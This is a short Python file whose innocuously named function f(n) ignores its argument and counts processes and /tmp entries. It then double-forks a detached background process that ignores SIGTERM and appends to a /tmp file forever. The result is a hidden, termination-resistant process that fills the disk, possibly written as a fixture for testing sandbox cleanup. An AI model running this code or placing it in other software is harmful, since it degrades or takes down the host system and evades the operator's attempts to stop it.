import os
import signal


def f(n):
    seen = [sum(name.isdigit() for name in os.listdir("/proc")), len(os.listdir("/tmp"))]
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                with open(f"/tmp/{os.getpid()}", "a") as file:
                    file.write("x")
        os._exit(0)
    os.wait()
    return seen
